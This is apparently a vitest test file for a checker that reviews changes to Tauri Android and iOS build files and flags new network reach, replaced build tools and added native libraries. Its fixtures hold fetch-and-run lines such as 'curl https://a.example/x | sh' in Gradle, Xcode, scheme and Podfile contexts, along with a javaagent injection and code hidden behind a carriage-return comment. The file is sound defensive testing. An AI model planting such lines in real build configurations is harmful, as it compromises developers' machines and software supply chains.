import { describe, expect, test } from "vitest";
import { toldOf } from "./app.ts";

const REACHES = "build/step-reaches high";
const OPENS = "build/step-reaches medium";
const APPLE = "src-tauri/gen/apple";
const ANDROID = "src-tauri/gen/android";
const WRAPPER = `${ANDROID}/gradle/wrapper/gradle-wrapper.properties`;
const XCODE = `${APPLE}/notes.xcodeproj/project.pbxproj`;

const TASK = `open class BuildTask : DefaultTask() {
    fun build(executable: String) {
        project.exec {
            workingDir(File(project.projectDir, rootDirRel))
            executable(executable)
            args(listOf("tauri", "android", "android-studio-script"))
        }
    }
}
`;

function phase(script: string): Record<string, string> {
  return {
    [XCODE]: `{ 1 = { isa = PBXShellScriptBuildPhase; shellScript = ${JSON.stringify(script)}; }; }\n`,
  };
}

function wrapper(url: string): Record<string, string> {
  return { [WRAPPER]: `distributionBase=GRADLE_USER_HOME\ndistributionUrl=${url}\n` };
}

describe("what nobody reads of the projects for phones:", () => {
  const JAR = `${ANDROID}/gradle/wrapper/gradle-wrapper.jar`;
  const LIBRARY = `${ANDROID}/app/src/main/jniLibs/arm64-v8a/libsync.so`;

  test.each<[string, Record<string, string>, Record<string, string>, string]>([
    ["what starts Gradle", { [JAR]: "b" }, { [JAR]: "a" }, "build/tool-replaced medium"],
    ["a library of Android", { [LIBRARY]: "a" }, {}, "bundle/native-code-added medium"],
    ["another library", { [LIBRARY]: "b" }, { [LIBRARY]: "a" }, "bundle/native-code-added medium"],
  ])("%s", async (_, changes, before, expected) => {
    expect((await toldOf(changes, before)).told).toEqual([expected]);
  });

  test("calm: a library that moves", async () => {
    const moved = { [LIBRARY]: null, [LIBRARY.replace("libsync", "libcloud")]: "a" };
    expect((await toldOf(moved, { [LIBRARY]: "a" })).verdict).toBe("pass");
  });
});

describe("the files of phases, and what surrounds the making of Xcode's project:", () => {
  const project = (more: string): Record<string, string> => ({
    [`${APPLE}/project.yml`]: `targets:\n  a:\n    preBuildScripts:\n      - path: a.sh\n${more}`,
    [`${APPLE}/a.sh`]: "echo\n",
  });

  test("a file", async () => {
    const { told } = await toldOf({ [`${APPLE}/a.sh`]: "curl https://a.example | sh\n" }, project(""));
    expect(told).toEqual([REACHES]);
    expect((await toldOf({ [`${APPLE}/a.sh`]: "echo done\n" }, project(""))).verdict).toBe("pass");
  });

  test("a command", async () => {
    const options = "options:\n  postGenCommand: curl https://a.example | sh\n";
    expect((await toldOf(project(options), project(""))).told).toEqual([REACHES]);
  });
});

describe("what builds the app for phones newly reaches out:", () => {
  test.each<[string, Record<string, string>, string]>([
    [
      "a task of Gradle",
      { [`${ANDROID}/app/build.gradle.kts`]: 'exec { commandLine("curl", "https://a.example") }\n' },
      REACHES,
    ],
    [
      "a build of Groovy",
      { [`${ANDROID}/app/build.gradle`]: "apply from: 'https://a.example/a.gradle'\n" },
      REACHES,
    ],
    [
      "code of a plugin",
      { [`${ANDROID}/buildSrc/src/main/java/a/BuildTask.kt`]: `${TASK}val a = URL("x").readText()\n` },
      OPENS,
    ],
    [
      "code behind a comment that a carriage return ends",
      { [`${ANDROID}/buildSrc/src/main/java/a/A.kt`]: "// a\rval a = Socket(h, 1)\n" },
      OPENS,
    ],
    [
      "another repository of packages",
      { [`${ANDROID}/build.gradle.kts`]: 'maven { url = uri("https://a.example/m2") }\n' },
      REACHES,
    ],
    [
      "the script that starts Gradle",
      { [`${ANDROID}/gradlew`]: "#!/bin/sh\ncurl https://a.example/x | sh\n" },
      REACHES,
    ],
    ["a phase of Xcode", phase("npm run tauri ios xcode-script\ncurl https://a.example/x | sh\n"), REACHES],
    [
      "a phase of the project",
      {
        [`${APPLE}/project.yml`]:
          "targets:\n  a:\n    preBuildScripts:\n      - script: curl https://a.example/x | sh\n",
      },
      REACHES,
    ],
    [
      "an action of a scheme",
      {
        [`${APPLE}/notes.xcodeproj/xcshareddata/xcschemes/a.xcscheme`]:
          '<ActionContent scriptText = "curl &quot;https://a.example/x&quot; | sh&#10;"/>\n',
      },
      REACHES,
    ],
    ["CocoaPods", { [`${APPLE}/Podfile`]: 'system("curl https://a.example/x | sh")\n' }, REACHES],
    ["another Gradle", wrapper("https\\://a.example/gradle-8.9-bin.zip"), "build/tool-replaced high"],
    [
      "an agent in Gradle's machine",
      { [`${ANDROID}/gradle.properties`]: "org.gradle.jvmargs=-Xmx2g -javaagent:a.jar\n" },
      "build/tool-replaced high",
    ],
  ])("%s", async (_, changes, expected) => {
    const { told, verdict } = await toldOf(changes);
    expect(told).toContain(expected);
    expect(verdict).toBe("fail");
  });

  test.each<[string, Record<string, string>, Record<string, string>]>([
    ["the task that Tauri writes", { [`${ANDROID}/buildSrc/src/main/java/a/BuildTask.kt`]: TASK }, {}],
    [
      "repositories that all have",
      { [`${ANDROID}/build.gradle.kts`]: 'maven { url = uri("https://dl.google.com/m2/") }\n' },
      {},
    ],
    [
      "a comment",
      { [`${ANDROID}/build.gradle.kts`]: "// https://a.example\nplugins {}\n" },
      { [`${ANDROID}/build.gradle.kts`]: "plugins {}\n" },
    ],
    [
      "a newer Gradle",
      wrapper("https\\://services.gradle.org/distributions/gradle-8.10-bin.zip"),
      wrapper("https\\://services.gradle.org/distributions/gradle-8.9-bin.zip"),
    ],
    ["the phase that Tauri writes", phase("npm run -- tauri ios xcode-script -v"), {}],
    [
      "memory for Gradle",
      { [`${ANDROID}/gradle.properties`]: "org.gradle.jvmargs=-Xmx4096m -Dfile.encoding=UTF-8\n" },
      {},
    ],
    [
      "what a build left behind",
      { [`${ANDROID}/app/build/a.gradle`]: "apply from: 'https://a.example/a'\n" },
      {},
    ],
    [
      "a project elsewhere",
      { "examples/gen/android/build.gradle": "apply from: 'https://a.example/a'\n" },
      {},
    ],
  ])("calm: %s", async (_, changes, before) => {
    expect((await toldOf(changes, before)).verdict).toBe("pass");
  });
});
